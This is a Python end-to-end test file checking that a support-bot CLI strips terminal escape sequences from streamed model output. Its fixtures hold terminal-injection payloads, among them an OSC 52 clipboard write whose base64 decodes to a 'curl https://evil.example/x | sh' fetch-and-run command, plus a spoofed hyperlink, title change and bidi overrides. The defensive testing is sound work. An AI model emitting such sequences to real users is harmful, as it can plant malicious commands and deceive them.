"""The real `supportbot ask` and `chat` in a subprocess: what the model or a tool says can carry escape
sequences (an OSC 52 clipboard write, a screen clear, cursor moves, …); none of them reaches the terminal,
and the text around them does."""

from __future__ import annotations

from pathlib import Path

from fakes.anthropic import FakeAnthropic, Reply

from tests.e2e.test_console_cli import cli_bytes, cli_env

CLIPBOARD = "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gK\x07"
ANSWER = (
    f"Your tent{CLIPBOARD} has shipped.\x1b[2J\x1b[H\x1b[3J\n"
    "Tracking: \x1b[31m1Z999AA10123456784\x1b[0m\x1bc\n"
    "Total: $100\b\b\b999\rPAID \x1b[10;1Hmoved \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\ ok\n"
    "C1: \x9b2Jcsi \x9d0;title\x9c \x85 \x1bPdcs\x1b\\ \x1b_apc\x1b\\ done\x1b\n"
    "Bidi: \u202eevil\u202c \u2066iso\u2069 and a\ttab."
)
SHOWN = (
    "Your tent has shipped.\n"
    "Tracking: 1Z999AA10123456784\n"
    "Total: $100999PAID moved link ok\n"
    "C1: csi     done\n"
    "Bidi: evil iso and a\ttab."
)


def assert_inert(out: bytes) -> str:
    """``out`` has nothing a terminal acts on (ESC, C1, other controls than newline and tab, bidi
    overrides); returns it decoded."""
    assert b"\x1b" not in out
    text = out.decode("utf-8")
    acted_on = [
        c for c in text if (c < " " and c not in "\n\t") or "\x7f" <= c <= "\x9f" or c in "\u202e\u2066"
    ]
    assert acted_on == [], acted_on
    return text


async def test_ask_prints_none_of_the_escape_sequences_the_model_writes(tmp_path: Path) -> None:
    # Three characters a delta: sequences arrive cut in two, across the edits the answer grows by.
    async with FakeAnthropic(Reply.text(ANSWER, chunk=3, tokens_per_second=400)) as fake:
        env = cli_env(tmp_path, ANTHROPIC_BASE_URL=fake.base_url, ANTHROPIC_API_KEY="anything")
        code, out, err = await cli_bytes(env, "ask", "--as", "customer:C-1001", "Where is my tent?")

    assert code == 0, err.decode()
    assert assert_inert(out).strip() == SHOWN


async def test_chat_prints_none_of_the_escape_sequences_the_model_writes(tmp_path: Path) -> None:
    async with FakeAnthropic(
        Reply.text(f"One{CLIPBOARD}: shipped.\x1b[2", chunk=2, tokens_per_second=400),
        Reply.text(
            "\x1b[1;1HTwo: \x1b]0;pwned\x07arrives \u202eFriday\u202c.\x1bc", chunk=2, tokens_per_second=400
        ),
    ) as fake:
        env = cli_env(tmp_path, ANTHROPIC_BASE_URL=fake.base_url, ANTHROPIC_API_KEY="anything")
        code, out, err = await cli_bytes(env, "chat", stdin="Where is my tent?\nWhen?\n/quit\n")

    assert code == 0, err.decode()
    text = assert_inert(out)
    assert "bot> One: shipped.\n" in text and "bot> Two: arrives Friday.\n" in text
